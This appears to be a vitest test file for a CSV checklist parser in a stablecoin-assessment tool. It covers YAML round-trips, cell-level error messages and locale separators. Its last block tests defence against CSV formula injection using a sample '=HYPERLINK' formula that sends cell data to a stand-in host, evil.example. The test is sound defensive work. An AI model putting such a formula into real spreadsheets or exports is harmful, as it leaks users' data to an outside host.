/**
 * The CSV checklist comes back: a checklist filled in from each example
 * assessment scores exactly like the YAML file, and every problem in a
 * checklist has the line and column of its cell.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checklistCsv } from '@usd1-milestones/core/export';
import { releaseVersions } from '@usd1-milestones/core/loader';
import { rubric } from '@usd1-milestones/rubric';
import { releasesFolder } from '@usd1-milestones/rubric/folder';
import { afterAll, describe, expect, it } from 'vitest';
import { openInCalc, requireLibreOfficeInCi, soffice } from '../../../scripts/libreoffice.js';
import { type Assessment, fillChecklist, parseAssessment, parseChecklist, scoreAssessment } from '../src/index.js';

const data = rubric as never;
const examples = join(import.meta.dirname, '../../../examples');
const fixtures = join(import.meta.dirname, 'fixtures/checklists');
/** The versions a checklist may name: every frozen release, as the CLI passes them. */
const versions = releaseVersions(releasesFolder);

describe('a filled-in checklist', () => {
  for (const name of ['harbor-dollar.yaml', 'meridian-settlement-coin.yaml']) {
    it(`scores ${name} exactly like the YAML form`, () => {
      const yaml = parseAssessment(readFileSync(join(examples, name), 'utf8'), name, data, { versions });
      expect(yaml.problems.filter((p) => p.severity === 'error')).toEqual([]);
      const assessment = yaml.assessment as Assessment;
      const csv = parseChecklist(fillChecklist(checklistCsv(data), assessment), name.replace('.yaml', '.csv'), data, {
        versions,
      });
      // The same warnings as the YAML form, each naming its cell instead of a line of YAML.
      expect(
        csv.problems.map((p) => `${p.ruleId} ${p.message.replace(/ \(row \d+, column [A-Z]+ `[a-z_]+`\)$/, '')}`),
      ).toEqual(yaml.problems.map((p) => `${p.ruleId} ${p.message}`));
      expect(csv.assessment).toEqual(assessment);
      expect(scoreAssessment(csv.assessment as Assessment, data)).toEqual(scoreAssessment(assessment, data));
    });
  }
});

describe('problems in a checklist', () => {
  const read = (name: string) =>
    parseChecklist(readFileSync(join(fixtures, name), 'utf8'), name, data, { versions }).problems.map(
      (p) => `${p.line}:${p.column} ${p.ruleId} ${p.message}`,
    );

  it('names each bad cell by line and column: unknown ids, a bad status, bad dates', () => {
    expect(read('problems.csv')).toEqual([
      '2:138 assessment-schema `assessed_on` is `2026-11-31`: expected the date of the assessment as YYYY-MM-DD (row 2, column R `assessed_on`)',
      `3:27 assessment-schema Unknown criterion \`reserve-policy.permited-assets\` for milestone \`reserve-policy\`, not in rubric ${rubric.version}; did you mean \`reserve-policy.permitted-assets\`? A checklist exported from a newer rubric needs a newer @usd1-milestones/cli (row 3, column G \`criterion_id\`)`,
      '4:60 assessment-schema Unknown status `mett`, expected one of met, partial, not-met, not-disclosed, not-applicable, or nothing; did you mean `met`? (row 4, column J `status`)',
      '5:72 assessment-schema `as_of` is `2026-13-01`: expected the date of the evidence as YYYY-MM-DD, such as 2026-06-30 (row 5, column N `as_of`)',
      '6:10 assessment-schema Unknown milestone `reserve-polcy`, expected a milestone id of the rubric; did you mean `reserve-policy`? (row 6, column C `milestone_id`)',
    ]);
  });

  it('asks for the status of a criterion row that has a note but no status, at the empty status cell', () => {
    expect(read('note-without-status.csv')).toEqual([
      '3:61 assessment-schema No `status` for criterion `reserve-policy.permitted-assets`: a row with a note or evidence needs one of met, partial, not-met, not-disclosed, not-applicable (row 3, column J `status`)',
    ]);
  });

  it('says when a criterion is newer than the rubric version the checklist names, and still scores it', () => {
    const text = readFileSync(join(fixtures, 'older-version.csv'), 'utf8');
    const result = parseChecklist(text, 'older-version.csv', data, { versions });
    expect(result.problems.map((p) => `${p.line}:${p.column} ${p.severity} ${p.message}`)).toEqual([
      '2:25 warning Criterion `reserve-reporting.plain-language` was added in rubric 1.1.0, after 1.0.0, the version this checklist names (row 2, column C `criterion_id`)',
    ]);
    expect(result.assessment?.milestones['reserve-reporting']?.criteria?.['reserve-reporting.plain-language']).toEqual({
      status: 'partial',
    });
  });

  it('reports a quoted field that is never closed, where it starts', () => {
    expect(read('unclosed.csv')).toEqual([
      '2:23 assessment-syntax A quoted field is never closed (row 2, column D): end it with `"` (a quote inside it is written `""`)',
    ]);
  });

  it('asks for the columns it needs', () => {
    const result = parseChecklist('milestone_id,status\r\nreserve-policy,met\r\n', 'short.csv', data);
    expect(result.problems.map((p) => `${p.line}:${p.column} ${p.message}`)).toEqual([
      '1:1 Missing column `criterion_id` in the header row, which has 2 columns: `milestone_id`, `status`. Separate the columns with commas, semicolons or tabs, and start from `usd1-milestones export --format csv`',
    ]);
  });

  it('says what it found when the header is not split by a comma, semicolon or tab', () => {
    expect(read('pipes.csv')).toEqual([
      '1:1 assessment-schema Missing columns `milestone_id`, `criterion_id`, `status` in the header row, which has one column, `rubric_version|milestone_id|criterion_id|status`. Separate the columns with commas, semicolons or tabs, and start from `usd1-milestones export --format csv`',
    ]);
  });

  it('blames a short or long row on its number of cells, not on the value that slid into another column', () => {
    expect(read('short-row.csv')).toEqual([
      '3:1 assessment-schema Row 3 has 3 cells where the header has 7; every row needs one cell per column (an empty cell is two separators side by side) (row 3, column A `rubric_version`)',
      '4:1 assessment-schema Row 4 has 8 cells where the header has 7; every row needs one cell per column (an empty cell is two separators side by side) (row 4, column A `rubric_version`)',
    ]);
  });

  it('points at the cell of a missing assessment field, by character column', () => {
    const text = 'rubric_version,milestone_id,criterion_id,status,arrangement\r\n1.2.0,reserve-policy,,partial,\r\n';
    expect(
      parseChecklist(text, 'no-arrangement.csv', data).problems.map((p) => `${p.line}:${p.column} ${p.message}`),
    ).toEqual([
      '1:1 No `assessor`: fill it in on at least one row (add a `assessor` column)',
      '1:1 No `assessed_on`: fill it in on at least one row (add a `assessed_on` column)',
      '2:31 No `arrangement`: fill it in on at least one row (row 2, column E `arrangement`)',
    ]);
  });

  it('warns on evidence dated after the assessment or in the future, at the `as_of` cell, and still scores', () => {
    const text = readFileSync(join(fixtures, 'evidence-dates.csv'), 'utf8');
    const result = parseChecklist(text, 'evidence-dates.csv', data, { versions, today: '2026-12-01' });
    expect(result.problems.map((p) => `${p.line}:${p.column} ${p.severity} ${p.message}`)).toEqual([
      "2:61 warning Evidence `https://example.org/policy` is dated 2026-12-01, after the assessment's date 2026-11-01; check both dates (row 2, column G `as_of`)",
      '3:69 warning Evidence `https://example.org/report` is dated 2031-01-31, in the future (today is 2026-12-01); check the date (row 3, column G `as_of`)',
    ]);
    expect(result.assessment).toBeDefined();
  });
});

describe('checklists from spreadsheets in other locales', () => {
  it('reads a semicolon-separated and a tab-separated checklist as the same assessment', () => {
    const semicolon = parseChecklist(readFileSync(join(fixtures, 'semicolon.csv'), 'utf8'), 'semicolon.csv', data, {
      versions,
      today: '2026-12-01',
    });
    const tab = parseChecklist(readFileSync(join(fixtures, 'tab.csv'), 'utf8'), 'tab.csv', data, {
      versions,
      today: '2026-12-01',
    });
    expect(semicolon.problems).toEqual([]);
    expect(tab.problems).toEqual([]);
    expect(semicolon.assessment).toEqual({
      arrangement: 'Separated checklist (hypothetical)',
      date: '2026-11-01',
      assessor: 'Tester',
      rubricVersion: '1.2.0',
      milestones: {
        'reserve-policy': { status: 'partial', note: 'Policy; in draft' },
        'reserve-reporting': {
          status: 'met',
          evidence: [{ url: 'https://example.org/report', kind: 'attestation', asOf: '2026-10-31' }],
        },
      },
    });
    expect(tab.assessment).toEqual(semicolon.assessment);
  });
});

describe('text a spreadsheet would run as a formula', () => {
  const hostile = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
  const assessment = {
    arrangement: '+Plus arrangement (hypothetical)',
    date: '2026-11-01',
    assessor: '@handle',
    rubricVersion: '1.2.0',
    milestones: {
      'reserve-policy': { status: 'partial', note: hostile },
      'reserve-reporting': { status: 'partial', note: "'=already quoted" },
      'attestation-vs-audit': { status: 'not-met', note: '-1 first, then text' },
    },
  } as Assessment;
  const filled = fillChecklist(checklistCsv(data), assessment);

  it("is written with a leading ' and read back as it was, with identical scores", () => {
    const cells = filled.split('\r\n').flatMap((row) => row.split(','));
    expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(filled).toContain(`"'${hostile.replaceAll('"', '""')}"`);
    expect(filled).toContain("''=already quoted");
    const back = parseChecklist(filled, 'filled.csv', data, { versions });
    expect(back.problems).toEqual([]);
    expect(back.assessment).toEqual(assessment);
    expect(scoreAssessment(back.assessment as Assessment, data)).toEqual(scoreAssessment(assessment, data));
  });

  const work = mkdtempSync(join(tmpdir(), 'usd1-formula-'));
  afterAll(() => rmSync(work, { recursive: true, force: true }));
  requireLibreOfficeInCi();

  it.skipIf(!soffice)('opens in LibreOffice Calc as text, and saved from there it still scores the same', () => {
    writeFileSync(join(work, 'filled.csv'), filled);
    const opened = openInCalc(join(work, 'filled.csv'), work);
    expect(opened.spreadsheet).not.toContain('table:formula');
    const back = parseChecklist(opened.csv, 'filled.csv', data, { versions });
    expect(back.problems).toEqual([]);
    expect(back.assessment).toEqual(assessment);
  });
});
